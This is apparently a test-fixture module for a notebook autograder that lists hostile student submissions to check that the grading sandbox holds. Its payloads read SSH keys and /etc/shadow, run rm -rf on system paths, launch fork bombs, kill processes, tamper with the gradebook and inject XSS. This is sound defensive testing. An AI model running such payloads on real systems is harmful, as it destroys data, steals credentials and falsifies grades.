"""Hostile and damaged submissions, each a small change to an honest one, with what it must earn.

`SUBMISSIONS` maps a student's name to a Submission. All are made from the released notebook of lesson 4.1 with right
answers in it, so that what an attack leaves alone must still earn its points. `{...}` in an attack's code is filled
in by the test: paths and ports outside the sandbox that nothing may reach.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

GRADED = {"4.1.1": 1.0, "4.1.2": 2.0, "4.1.3": 2.0, "4.1.5": 1.0}
NAMES = {
    "4.1.1": "loss_of_four_tosses",
    "4.1.2": "cross_entropy_from_logits",
    "4.1.3": "gradient_of_logistic_loss",
    "4.1.5": "stable_log_sum_exp",
}
RIGHT = {
    "4.1.1": "loss_of_four_tosses = 0.5685",
    "4.1.2": "def cross_entropy_from_logits(logits, y):\n    return np.mean(np.logaddexp(0, logits) - y * logits)",
    "4.1.3": "def gradient_of_logistic_loss(w, X, y):\n    return X.T @ (sigmoid(X @ w) - y) / len(y)",
    "4.1.5": (
        "def stable_log_sum_exp(z):\n"
        "    m = z.max(axis=-1, keepdims=True)\n"
        "    return (m + np.log(np.exp(z - m).sum(axis=-1, keepdims=True)))[..., 0]"
    ),
}
NOTHING = dict.fromkeys(GRADED, 0.0)
Notebook = dict[str, Any]


@dataclass
class Submission:
    """`make` changes the notebook, or returns a file's bytes; `earns` are the marks that differ from full ones."""

    make: Callable[[Notebook], bytes | None]
    earns: dict[str, float] = field(default_factory=dict)
    odd: str = ""
    says: str = ""
    """A part of the message to 4.1.2, or of what is odd."""


SUBMISSIONS: dict[str, Submission] = {}

OUTSIDE: dict[str, Any] = {}
"""What the attacks are after, filled in by the test: `outside` and `folder` (paths), `port`, `address`, `pid`, `table`."""

STUB: dict[str, str] = {}
"""The released answers' cells, filled in by the test."""


def submission(odd: str = "", says: str = "", **earns: float) -> Callable[[Any], Any]:
    """Enter a function under its own name; `e2=0` says that 4.1.2 earns 0."""

    def enter(make: Callable[[Notebook], bytes | None]) -> Callable[[Notebook], bytes | None]:
        marks = {f"4.1.{key[1:]}": value for key, value in earns.items()}
        SUBMISSIONS[make.__name__] = Submission(make, marks, odd, says)
        return make

    return enter


def cell(notebook: Notebook, exercise: str) -> dict[str, Any]:
    """The answer's cell."""
    id_ = f"exercise-{exercise.replace('.', '-')}"
    return next(cell for cell in notebook["cells"] if cell.get("id") == id_)


def place(notebook: Notebook, exercise: str) -> int:
    return notebook["cells"].index(cell(notebook, exercise))


def code(text: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": text, "metadata": {}, "outputs": [], "execution_count": None, **more}


def honest(released: Path) -> Notebook:
    """The released notebook with right answers."""
    notebook: Notebook = json.loads(released.read_text(encoding="utf-8"))
    for exercise, text in RIGHT.items():
        cell(notebook, exercise)["source"] = text
    return notebook


def hostile(name: str, body: str, before: str = "", odd: str = "", says: str = "", **earns: float) -> None:
    """Enter an attack from inside 4.1.2: `before` stands above the function, `body` is the function's."""

    def make(notebook: Notebook) -> None:
        lines = "\n".join("    " + line for line in body.strip().splitlines())
        text = f"{before}\ndef cross_entropy_from_logits(logits, y):\n{lines}\n"
        cell(notebook, "4.1.2")["source"] = text.format(**OUTSIDE)

    marks = {f"4.1.{key[1:]}": value for key, value in {"e2": 0.0, **earns}.items()}
    SUBMISSIONS[name] = Submission(make, marks, odd, says)


# --- from inside an answer ------------------------------------------------------------------------

hostile(
    "reads_keys_and_environment",
    """
import glob, os
found = [os.environ.get("COURSE_CANARY", "")]
for pattern in ("{outside}/*", "{folder}/secret/*", "{home}/.ssh/*", "/etc/shadow", "/proc/1/environ", "/proc/*/environ"):
    for path in glob.glob(pattern):
        try:
            found.append(open(path, errors="replace").read())
        except OSError:
            pass
raise ValueError(" ".join(found)[:250] or "nothing")
""",
    odd="import os",
)
hostile(
    "deletes_files",
    """
import os, shutil
for path in ("{outside}", "{folder}", "/package", "/grader", "/usr/lib/python3", "/home", "/root"):
    shutil.rmtree(path, ignore_errors=True)
    os.system("rm -rf " + path)
return 0.0
""",
    odd="import shutil",
)
hostile(
    "patches_numpy",
    "return 0.0",
    "np.allclose = np.isclose = np.array_equal = np.all = lambda *a, **k: True\nnp.asarray = lambda *a, **k: 0.0",
    e3=0,  # what comes after it in the same notebook is spoilt as well
    e5=0,
)
hostile(
    "patches_the_comparison",
    "return 0.0",
    "import course.exercises as e\ntry:\n    import course.exercises.checking as c\n    c.agree = lambda *a: True\n"
    "except ImportError:\n    e.check = lambda *a: True",
)
hostile(
    "input_transformer",
    "return 0.0",
    "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['x = 1\\n'])\n",
    odd="get_ipython",
)
hostile(
    "ast_transformer",
    "return 0.0",
    "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node): return None\n"
    "get_ipython().ast_transformers.append(T())",
    odd="import ast",
)
hostile(
    "replaces_the_run_method",
    """
import sys
right = lambda *a, **k: None
for name in ("running", "plain", "wire", "__main__"):
    module = sys.modules[name]
    for attribute in ("run", "plain", "encode"):
        if hasattr(module, attribute):
            setattr(module, attribute, right)
main = sys.modules["__main__"]
main.Session._encoded = staticmethod(lambda value: {{"value": ["f", "0x1.0p+0"]}})
return 0.0
""",
    odd="import sys",
)
hostile(
    "walks_the_frames",
    """
import gc, sys
frame, found = sys._getframe(), []
while frame:
    found += [value for key, value in frame.f_locals.items() if "expect" in key or "reference" in key]
    frame = frame.f_back
found += [o for o in gc.get_objects() if type(o).__name__ in ("Exercise", "Case", "Mistake")]
answers = [o for o in found if callable(o)]
return answers[0](logits, y) if answers else 0.0
""",
    odd="import gc",
)
hostile(
    "forges_replies",
    """
import json, os
one = {{"value": ["n", "<f8", [], "AAAAAAAA8D8="], "nothing": False, "changed": False}}
for number in range(1, 9):
    line = json.dumps({{"re": number, "replies": [one] * 6, "printed": "", "timed_out": False}}).encode() + b"\\n"
    for handle in range(3, 20):
        try:
            os.write(handle, line)
        except OSError:
            pass
return 1.0
""",
    odd="import os",
)
hostile(
    "floods_the_channel",
    """
import os
while True:
    for handle in range(3, 12):
        try:
            os.write(handle, b"x" * 65536)
        except OSError:
            pass
""",
    odd="wrote where only the grader writes",
)
hostile(
    "equal_to_everything",
    "return Sly()",
    "class Sly:\n    __eq__ = __le__ = __ge__ = lambda self, other: True\n    __hash__ = None\n"
    "    def __ne__(self, other): return False\n    def __abs__(self): return 0.0\n    def __sub__(self, other): return 0.0",
)
hostile(
    "float_and_array_tricks",
    "return Sly(3.0)",
    "class Sly(float):\n    def __eq__(self, other): return True\n    def __array__(self, *a, **k):\n"
    "        raise SystemExit\n    def __reduce__(self): return (print, ('x',))\n    def __float__(self): return 1.0",
)
hostile(
    "subclasses_an_array",
    "return np.zeros(()).view(Sly)",
    "class Sly(np.ndarray):\n    def __eq__(self, other): return True\n"
    "    def __array_function__(self, *a, **k): return True\n    def __array_ufunc__(self, *a, **k): return True",
)
hostile("exits", "import sys\nsys.exit(0)", says="inputs of `check`")
hostile("exits_at_once", "import os\nos._exit(0)", odd="ended the program")
hostile("crashes", "import ctypes\nctypes.string_at(0)", odd="ended the program")
hostile("recurses", "import sys\nsys.setrecursionlimit(10**9)\nf = lambda n: f(n + 1)\nreturn f(0)", odd="import sys")
hostile(
    "sends_signals",
    """
import os, signal
for process in (-1, 1, os.getppid(), {pid}):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)
""",
    odd="ended the program",
)
hostile(
    "fork_bomb",
    """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
""",
)
hostile(
    "thread_bomb",
    """
import threading, time
for _ in range(3000):
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
return 0.0
""",
)
hostile("takes_all_memory", "x = []\nwhile True:\n    x.append(np.ones(10_000_000))")
hostile(
    "memory_over_many_processes",
    """
import os, time
for _ in range(40):
    if os.fork() == 0:
        x = np.ones(40_000_000)
        time.sleep(60)
time.sleep(60)
""",
    odd="import os",
)
hostile(
    "fills_the_disk",
    """
import os
for folder in ("/tmp", "/dev/shm", "/", "/dev", "/package", "{outside}"):
    for number in range(40):
        try:
            with open(os.path.join(folder, "big" + str(number)), "wb") as file:
                for _ in range(40):
                    file.write(b"0" * 1_000_000)
        except OSError:
            break
return 0.0
""",
)
hostile("endless_output", "while True:\n    print('x' * 10_000)", says="time limit")
hostile(
    "endless_output_past_python",
    "import os\nwhile True:\n    os.write(1, b'x' * 65536)\n    os.write(2, b'x' * 65536)",
    says="time limit",
)
hostile(
    "swallows_interrupts",
    "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
    says="time limit",
)
hostile(
    "uses_the_network",
    """
import socket
for where in (("127.0.0.1", {port}), ("{address}", {port}), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(where, timeout=1) as other:
            other.sendall(b"here")
    except OSError:
        pass
return 0.0
""",
    odd="import socket",
)
hostile(
    "writes_to_the_gradebook",
    """
import sqlite3
try:
    book = sqlite3.connect("{folder}/gradebook.db", timeout=1)
    book.execute("update grade set manual_score = 100")
    book.commit()
except sqlite3.Error:
    pass
for path in ("{folder}/results/mixed/writes_to_the_gradebook.json", "{outside}/mark"):
    try:
        open(path, "w").write("full marks")
    except OSError:
        pass
return 0.0
""",
    odd="import sqlite3",
)
hostile(
    "writes_in_the_background",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            for path in ("{outside}/late", "{folder}/late", os.path.join("/tmp", "late")):
                try:
                    open(path, "a").write("still here")
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
return 0.0
""",
    odd="import os",
)
hostile(
    "returns_something_endless",
    "return Long()",
    "class Long:\n    def __len__(self): return 2**60\n    def __getitem__(self, i): return i",
)
hostile("returns_far_too_much", "return np.zeros(100_000_000)")
hostile("returns_a_deep_nest", "x = ()\nfor _ in range(10_000):\n    x = (x,)\nreturn x")
hostile("returns_what_is_no_number", "return {{1: open, 'x': np.nan, (1, 2): [None, object()]}}")
hostile("returns_nan", "return float('nan')")
hostile(
    "knows_the_public_inputs",
    "return TABLE.get(round(float(logits.sum()), 6), 0.0)",
    "TABLE = {table}",
)

# --- the package's own answer ---------------------------------------------------------------------

hostile(
    "calls_the_package",
    "from course.losses import binary_cross_entropy\nreturn binary_cross_entropy(logits, y)",
    says="package's own",
)
hostile(
    "calls_the_package_in_disguise",
    'return getattr(__import__("cour" + "se.losses", fromlist=["x"]), "binary_" + "cross_entropy")(logits, y)',
    says="package's own",
)
hostile(
    "runs_the_packages_text",
    """
import re
text = open("/package/course/losses.py").read()
space = {{}}
exec(text, space)
return space["binary_cross_entropy"](logits, y)
""",
    says="package's own",
)


@submission(e2=0, says="package's own")
def is_the_packages_answer(notebook: Notebook) -> None:
    cell(notebook, "4.1.2")["source"] = "from course.losses import binary_cross_entropy as cross_entropy_from_logits"


hostile(
    "looks_for_the_reference",
    """
import glob, importlib
for name in ("course.exercises.cross_entropy_gradient", "course.grading.judging", "course.exercises.checking"):
    try:
        return importlib.import_module(name).EXERCISES[1].reference(logits, y)
    except (ImportError, AttributeError):
        pass
for path in glob.glob("/**/cross_entropy_gradient.py", recursive=True):
    if "/exercises/" in path:
        exec(open(path).read())
return 0.0
""",
    odd="import importlib",
)


@submission()
def uses_the_package_without_its_answer(notebook: Notebook) -> None:
    cell(notebook, "4.1.2")["source"] = (
        "import course.losses\nfrom scipy.special import log_expit\n"
        "def cross_entropy_from_logits(logits, y):\n    return -np.mean(y * log_expit(logits) + (1 - y) * log_expit(-logits))"
    )


# --- from outside an answer -----------------------------------------------------------------------


@submission()
def hostile_cell_of_its_own(notebook: Notebook) -> None:
    notebook["cells"].insert(2, code("import os\nos._exit(1)"))
    notebook["cells"].insert(2, code("import numpy\nnumpy.mean = numpy.exp = None"))


@submission(odd="check in cell")
def edited_checks(notebook: Notebook) -> None:
    for each in notebook["cells"]:
        if each.get("id", "").startswith("check-"):
            each["source"] = "def check(*a): return 'Passed'\ncheck('4.1.2', 1)"


@submission(e2=0)
def gives_itself_points(notebook: Notebook) -> None:
    for each in notebook["cells"]:
        if "nbgrader" in each["metadata"]:
            each["metadata"]["nbgrader"]["points"] = 1000
    notebook["metadata"]["course"] = {"lesson": "5.1", "score": 1000}
    cell(notebook, "4.1.2")["source"] = "def cross_entropy_from_logits(logits, y):\n    return 0.0"


@submission(e2=0)
def borrows_another_mark(notebook: Notebook) -> None:
    """The cell of 4.1.2 carries the mark of 4.1.3 and the other way round: each still answers its own exercise."""
    cell(notebook, "4.1.2")["source"] = "def cross_entropy_from_logits(logits, y):\n    return 0.0"
    other = copy.deepcopy(cell(notebook, "4.1.3")["metadata"])
    cell(notebook, "4.1.3")["metadata"] = cell(notebook, "4.1.2")["metadata"]
    cell(notebook, "4.1.2")["metadata"] = other


# --- honest and damaged ---------------------------------------------------------------------------


@submission()
def honest_as_it_is(notebook: Notebook) -> None:
    pass


@submission()
def checks_deleted(notebook: Notebook) -> None:
    notebook["cells"] = [each for each in notebook["cells"] if not each.get("id", "").startswith("check-")]


@submission(odd="cells carry the answer's mark")
def answer_doubled(notebook: Notebook) -> None:
    twin = copy.deepcopy(cell(notebook, "4.1.2"))
    twin["id"] = "twin"
    cell(notebook, "4.1.2")["source"] = "def cross_entropy_from_logits(logits, y):\n    return 0.0  # first try"
    notebook["cells"].insert(place(notebook, "4.1.2") + 1, twin)


@submission(odd="no code cell")
def retyped_as_markdown(notebook: Notebook) -> None:
    cell(notebook, "4.1.2")["cell_type"] = "markdown"
    cell(notebook, "4.1.3")["cell_type"] = "raw"


@submission(e2=0, odd="No cell was found for")
def answer_deleted(notebook: Notebook) -> None:
    del notebook["cells"][place(notebook, "4.1.2")]


@submission()
def metadata_lost(notebook: Notebook) -> None:
    for each in notebook["cells"]:
        each["metadata"] = {}
    notebook["metadata"] = {}


@submission()
def ids_lost(notebook: Notebook) -> None:
    for each in notebook["cells"]:
        each.pop("id")
    notebook["nbformat_minor"] = 4


@submission(odd="mark is lost")
def ids_and_metadata_lost(notebook: Notebook) -> None:
    for each in notebook["cells"]:
        each.pop("id")
        each["metadata"] = None


@submission(odd="old notebook format")
def old_format(notebook: Notebook) -> bytes:
    cells = []
    for each in notebook["cells"]:
        text = each["source"]
        kind = {"input": text, "language": "python"} if each["cell_type"] == "code" else {"source": text}
        cells.append({"cell_type": each["cell_type"], "metadata": {}, **kind})
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}).encode()


@submission()
def cells_in_reverse(notebook: Notebook) -> None:
    notebook["cells"].reverse()


@submission(odd="in another cell")
def answer_in_another_cell(notebook: Notebook) -> None:
    text = cell(notebook, "4.1.2")["source"]
    cell(notebook, "4.1.2")["source"] = STUB["4.1.2"]
    notebook["cells"].insert(place(notebook, "4.1.2") + 1, code(text))


@submission()
def helpers_in_cells_of_their_own(notebook: Notebook) -> None:
    at = place(notebook, "4.1.2")
    notebook["cells"].insert(at, code("def softplus(z):\n    return log1p(exp(-abs(z))) + np.maximum(z, 0)"))
    notebook["cells"].insert(at, code("from numpy import log1p, exp"))
    cell(notebook, "4.1.2")["source"] = (
        "def cross_entropy_from_logits(logits, y):\n    return np.mean(softplus(logits) - y * scaled(logits))"
    )
    notebook["cells"].append(code("def scaled(z):\n    return 1.0 * z"))


@submission()
def edited_import_cell(notebook: Notebook) -> None:
    first = next(each for each in notebook["cells"] if "import numpy as np" in "".join(each["source"]))
    first["source"] = "from scipy.special import log_expit\n" + "".join(first["source"])
    cell(notebook, "4.1.2")["source"] = (
        "def cross_entropy_from_logits(logits, y):\n"
        "    return -np.mean(y * log_expit(logits) + (1 - y) * log_expit(-logits))"
    )


@submission()
def magics_and_shell_lines(notebook: Notebook) -> None:
    text = cell(notebook, "4.1.2")["source"]
    more = "\n%timeit cross_entropy_from_logits(np.zeros(3), np.zeros(3))\ncross_entropy_from_logits?\nfiles = !ls\n"
    cell(notebook, "4.1.2")["source"] = f"%%time\n!pip install nothing\n%matplotlib inline\n{text}{more}"
    cell(notebook, "4.1.3")["source"] += "\nget_ipython().run_line_magic('time', 'x')\ndisplay(1)\ncheck('4.1.3', 1)"


@submission()
def tests_below_the_answer_that_fail(notebook: Notebook) -> None:
    cell(notebook, "4.1.2")["source"] += "\nprint(cross_entropy_from_logits(data_of_mine, labels_of_mine))"


@submission()
def pasted_from_a_browser(notebook: Notebook) -> None:
    cell(notebook, "4.1.2")["source"] = RIGHT["4.1.2"].replace("    ", "\u00a0\u00a0\u00a0\u00a0").replace("\n", "\r\n")


@submission(e2=0, says="cannot read")
def syntax_error(notebook: Notebook) -> None:
    cell(notebook, "4.1.2")["source"] = "def cross_entropy_from_logits(logits, y:\n    return ("


@submission(e2=1, e5=0.5, says="Right for")
def right_in_part(notebook: Notebook) -> None:
    cell(notebook, "4.1.2")["source"] = (
        "def cross_entropy_from_logits(logits, y):\n    p = 1 / (1 + np.exp(-logits))\n"
        "    return -np.mean(y * np.log(p) + (1 - y) * np.log(1 - p))"
    )
    cell(notebook, "4.1.5")["source"] = "def stable_log_sum_exp(z):\n    return np.log(np.exp(z).sum(axis=-1))"


@submission(e1=0, e2=0, e3=0, e5=0)
def as_it_was_handed_out(notebook: Notebook) -> None:
    for exercise in GRADED:
        cell(notebook, exercise)["source"] = STUB[exercise]


@submission()
def script_in_outputs(notebook: Notebook) -> None:
    html = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
    for each in notebook["cells"]:
        if each["cell_type"] == "code":
            each["outputs"] = [{"output_type": "display_data", "data": {"text/html": html}, "metadata": {}}]
    notebook["cells"].append({"cell_type": "markdown", "source": html, "metadata": {}})
    cell(notebook, "4.1.2")["source"] += f"\n# {html} \u202e\x07"


@submission(e2=0, odd="was left out")
def huge_cell(notebook: Notebook) -> None:
    cell(notebook, "4.1.2")["source"] = RIGHT["4.1.2"] + "\n# " + "x" * 300_000


@submission()
def huge_cells_beside(notebook: Notebook) -> None:
    notebook["cells"] += [
        code("x = 1\n" * 50_000),
        code("(" * 100_000),
        code("[" * 500 + "]" * 500),
        code("-" * 90_000 + "1"),
    ]


@submission(e2=0)
def parser_breaker(notebook: Notebook) -> None:
    cell(notebook, "4.1.2")["source"] = (
        RIGHT["4.1.2"] + "\nx = " + "(" * 5_000 + ")" * 5_000 + "\ny = " + "+".join(["a"] * 60_000)
    )


@submission(odd="cells; the first")
def thousands_of_cells(notebook: Notebook) -> None:
    notebook["cells"] += [code(f"x{i} = {i}") for i in range(3_000)]


@submission()
def strange_cells(notebook: Notebook) -> None:
    notebook["cells"] += [None, 3, [], {}, {"cell_type": 7, "source": {"a": 1}, "metadata": []}]  # type: ignore[list-item]
    notebook["cells"].append(code("x = '\ud800\x00'"))
    notebook["metadata"] = {"kernelspec": {"name": "../../bin/sh", "argv": ["rm"]}}


def damaged(name: str, data: Callable[[Notebook], bytes], odd: str) -> None:
    """Enter a file that is no notebook: nothing is earned and the instructor is told why."""
    SUBMISSIONS[name] = Submission(data, NOTHING, odd)


damaged("invalid_json", lambda nb: json.dumps(nb).encode()[:-200], "is not JSON")
damaged("not_utf8", lambda nb: json.dumps(nb).encode("utf-16"), "UTF-8")
damaged("empty_file", lambda nb: b"", "is not JSON")
damaged("nested_without_end", lambda nb: b"[" * 200_000, "nested too deeply")
damaged("numbers_without_end", lambda nb: b'{"cells": ' + b"9" * 100_000 + b"}", "is not JSON")
damaged("another_json", lambda nb: b'[{"cells": []}]', "not a notebook")
damaged("cells_that_are_none", lambda nb: b'{"cells": {"a": 1}, "nbformat": 4}', "no cells")
damaged("fifty_megabytes", lambda nb: json.dumps({**nb, "x": "x" * 50_000_000}).encode(), "at most 20")
